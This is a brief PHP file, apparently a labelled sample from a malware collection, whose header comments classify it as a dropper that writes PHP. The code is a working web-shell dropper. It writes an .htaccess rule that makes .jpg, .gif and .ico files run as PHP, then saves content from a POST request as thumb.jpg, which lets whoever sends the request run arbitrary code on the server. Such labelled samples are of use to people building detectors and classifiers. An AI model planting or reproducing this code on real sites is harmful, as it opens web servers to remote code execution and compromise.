<?php
// Family: dropper/write-php
// Style: .htaccess writer making images executable
// Trait: writes an .htaccess that maps image extensions to the PHP handler, then saves request content as .jpg
file_put_contents('.htaccess', "AddType application/x-httpd-php .jpg .gif .ico\n");
file_put_contents('thumb.jpg', $_POST['img']);
echo 'ok';
